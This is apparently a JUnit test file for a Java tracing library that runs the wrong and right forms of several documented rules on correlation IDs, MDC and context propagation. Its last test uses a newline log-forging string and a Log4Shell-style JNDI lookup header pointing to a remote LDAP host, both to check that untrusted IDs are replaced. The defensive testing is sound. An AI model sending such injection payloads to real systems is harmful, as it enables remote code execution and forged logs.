package dev.ashlar.tracing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.ashlar.core.CallContext;
import dev.ashlar.core.CorrelationId;
import dev.ashlar.core.Criticality;
import dev.ashlar.core.Headers;
import dev.ashlar.core.IdSource;
import dev.ashlar.core.Observer;
import dev.ashlar.core.Operation;
import dev.ashlar.core.TimeSource;
import dev.ashlar.tracing.Boundary.EgressPolicy;
import io.opentelemetry.api.OpenTelemetry;
import io.opentelemetry.api.trace.Span;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

/** The wrong and the right form of each rule page, run: the wrong one does what the page says. */
class RulePagesTest {

  private static final Logger log = LoggerFactory.getLogger("application");

  private final CallContext.Receiver edge = receiver(CallContext.Trust.EDGE);
  private final CallContext.Receiver peer = receiver(CallContext.Trust.PEER);
  private final Tracing tracing =
      Tracing.of(OpenTelemetry.noop(), "test", edge, Boundary.to(EgressPolicy.hosts("internal")));
  private final CallContext request =
      edge.receive(Headers.of(CallContext.CORRELATION_HEADER, "order-17"));
  private final List<String> seen = new CopyOnWriteArrayList<>();

  private static CallContext.Receiver receiver(CallContext.Trust trust) {
    return new CallContext.Receiver(
        trust,
        Criticality.CRITICAL,
        Duration.ofSeconds(5),
        IdSource.system(),
        TimeSource.system(),
        Observer.none());
  }

  @AfterEach
  void clear() {
    MDC.clear();
  }

  private void note() {
    String id = MDC.get(LogFields.CORRELATION_ID);
    seen.add(id == null ? "none" : id);
  }

  @Test
  void acrossAnExecutor() throws Exception {
    ExecutorService pool = Executors.newFixedThreadPool(1);
    tracing.run(request, () -> wrongExecutor(pool));
    tracing.run(request, () -> rightExecutor(pool));
    pool.shutdown();

    assertThat(pool.awaitTermination(30, TimeUnit.SECONDS)).isTrue();
    assertThat(seen).containsExactly("none", "order-17");
  }

  private void wrongExecutor(ExecutorService pool) {
    // [readme:r1-wrong]
    pool.execute(() -> reserveStock());
    // [/readme]
  }

  private void rightExecutor(ExecutorService pool) {
    // [readme:r1-right]
    ContextSnapshot.carrying(pool).execute(() -> reserveStock());
    // [/readme]
  }

  private void reserveStock() {
    note();
  }

  @Test
  void throughAStoredRow() throws Exception {
    Headers wrong = Headers.empty();
    Headers right = request.call(() -> rightRow(Headers.empty()));

    CallContext relay = edge.receive(Headers.of(CallContext.CORRELATION_HEADER, "the-relay"));
    assertThat(relay.call(() -> wrongRow(wrong)).correlation().value()).isEqualTo("the-relay");
    assertThat(peer.receive(right).correlation().value()).isEqualTo("order-17");
  }

  private CallContext wrongRow(Headers row) {
    // [readme:r2-wrong]
    // In the relay, when the row is sent: this is the relay's context, or another request's.
    Headers sent = CallContext.current().orElseThrow().storedInto(row);
    // [/readme]
    return peer.receive(sent);
  }

  private Headers rightRow(Headers row) {
    // [readme:r2-right]
    // In the request, when the row is added.
    Headers stored = tracing.storedInto(row);
    // [/readme]
    return stored;
  }

  @Test
  void theMdcAfterwards() {
    MDC.put("tenant", "blue");

    assertThatThrownBy(() -> wrongMdc(request)).isInstanceOf(IllegalStateException.class);
    assertThat(MDC.get("correlation_id")).isEqualTo("order-17");
    MDC.clear();
    MDC.put("tenant", "blue");
    assertThatThrownBy(() -> rightMdc(request)).isInstanceOf(IllegalStateException.class);
    assertThat(MDC.getCopyOfContextMap()).isEqualTo(Map.of("tenant", "blue"));
  }

  private void wrongMdc(CallContext context) {
    // [readme:r3-wrong]
    MDC.put("correlation_id", context.correlation().value());
    handle();
    MDC.remove("correlation_id");
    // [/readme]
  }

  private void rightMdc(CallContext context) {
    // [readme:r3-right]
    tracing.run(context, () -> handle());
    // [/readme]
  }

  private static void handle() {
    MDC.put("tenant", "green");
    throw new IllegalStateException("on purpose");
  }

  @Test
  void idsWithoutATracer() throws Exception {
    Operation operation =
        new Operation(
            Operation.Kind.SERVER,
            "GET /orders",
            Optional.of(Headers.empty()),
            Operation.Link.PARENT,
            Map.of());
    tracing.<Boolean, Exception>around(operation, Headers.empty(), response -> wrongId());
    tracing.<Boolean, Exception>around(operation, Headers.empty(), response -> rightId());

    assertThat(seen.get(0)).isEqualTo("0".repeat(32));
    assertThat(seen.get(1)).hasSize(26);
  }

  private boolean wrongId() {
    // [readme:r4-wrong]
    String id = Span.current().getSpanContext().getTraceId();
    // [/readme]
    return seen.add(id);
  }

  private boolean rightId() {
    // [readme:r4-right]
    CorrelationId id = CallContext.current().orElseThrow().correlation();
    // [/readme]
    return seen.add(id.value());
  }

  @Test
  void idsFromOutside() {
    String forged = "1\nINFO paid order=18";
    Headers headers = Headers.of(CallContext.CORRELATION_HEADER, "${jndi:ldap://example.org/a}");
    try (LogCapture lines = new LogCapture()) {
      wrongOutside(forged);
      assertThat(lines.events().get(0).getFormattedMessage()).contains("\nINFO paid");
    }
    assertThat(rightOutside(headers).correlation().value()).matches("[0-9A-Z]{26}");
  }

  private static void wrongOutside(String header) {
    // [readme:r5-wrong]
    log.info("request {}", header);
    // [/readme]
  }

  private CallContext rightOutside(Headers headers) {
    // [readme:r5-right]
    CallContext context = edge.receive(headers);
    tracing.run(context, () -> log.info("request"));
    // [/readme]
    return context;
  }
}
